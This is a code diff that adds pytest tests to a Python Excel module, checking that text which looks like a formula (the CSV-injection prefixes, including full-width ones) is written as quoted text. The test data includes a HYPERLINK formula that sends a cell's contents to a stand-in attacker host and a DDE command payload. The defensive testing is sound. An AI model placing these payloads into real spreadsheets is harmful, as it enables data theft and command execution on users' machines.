@@ -186,3 +186,51 @@ def test_a_workbook_the_fast_reader_cannot_place_goes_to_openpyxl(monkeypatch) -
     monkeypatch.setattr(excel, "_fast_xlsx_rows", broken)
     assert list(excel.read_table(data, "a.xlsx", COLUMNS).rows) == [
         (2, {"name": "张三", "code": "1", "kind": "甲", "when": None})]
+
+
+# Every prefix that makes Excel or WPS take text for a formula (OWASP "CSV injection"), ASCII and full-width.
+DANGEROUS = ("=", "+", "-", "@", "\t", "\r", "＝", "＋", "－", "＠", " =")
+
+
+def formula_free(data: bytes) -> list[list[object]]:
+    """Every sheet's values, after asserting that no cell is a formula and that text which looks like one carries
+    the quote prefix (so that editing the cell in Excel keeps it text)."""
+    book = load_workbook(io.BytesIO(data))
+    values = []
+    for sheet in book.worksheets:
+        for row in sheet.iter_rows():
+            for cell in row:
+                assert cell.data_type != "f", (sheet.title, cell.coordinate, cell.value)
+                if isinstance(cell.value, str) and cell.value.lstrip(" ").startswith(
+                        tuple(p.strip(" ") for p in DANGEROUS) + ("\n",)):
+                    assert cell.data_type == "s" and cell.quotePrefix, (sheet.title, cell.coordinate, cell.value)
+            # XML reads a carriage return back as a line feed; everything else comes back as written.
+            cells = [c.value.replace("\n", "\r") if isinstance(c.value, str) and "\n" in c.value else c.value
+                     for c in row]
+            while cells and cells[-1] is None:
+                cells.pop()
+            values.append(cells)
+    return values
+
+
+@pytest.mark.parametrize("prefix", DANGEROUS)
+def test_text_that_looks_like_a_formula_is_written_as_text_by_every_writer(prefix: str) -> None:
+    evil = f'{prefix}HYPERLINK("http://evil.example/?d="&A1,"点我")'
+    rows = [[evil, -5, 2.5, f"{prefix}cmd|' /C calc'!A0"], ["普通文字", 0, None, "a-b"]]
+    listed = formula_free(excel.write_list(["名称", "数", "小数", "备注"], rows, title=evil))
+    assert listed[0] == [evil] and listed[2] == rows[0] and listed[3] == ["普通文字", 0, None, "a-b"]
+    booked = formula_free(excel.write_book([(f"表{prefix.strip()}", [excel.Column("a", evil)], [[evil], [-1]])]))
+    assert booked == [[evil], [evil], [-1]]
+    assert formula_free(excel.error_report([(2, evil, evil)]))[1] == [2, evil, evil]
+    # A template's drop-down options (grid names from the database) and its notes are written as cells too.
+    options = [f"{evil}{i}" for i in range(60)]
+    made = formula_free(excel.template([excel.Column("grid", "网格", choices=tuple(options), note=evil)],
+                                       notes=[evil]))
+    assert [evil] in made and [f"{evil}0"] in made
+
+
+def test_numbers_dates_and_plain_text_are_left_alone() -> None:
+    data = excel.write_list(["a", "b", "c", "d"], [[-3, -0.5, datetime(2026, 1, 5, 9), "1-2"]])
+    sheet = load_workbook(io.BytesIO(data)).active
+    assert [c.data_type for c in sheet[2]] == ["n", "n", "d", "s"]
+    assert not any(c.quotePrefix for c in sheet[2])
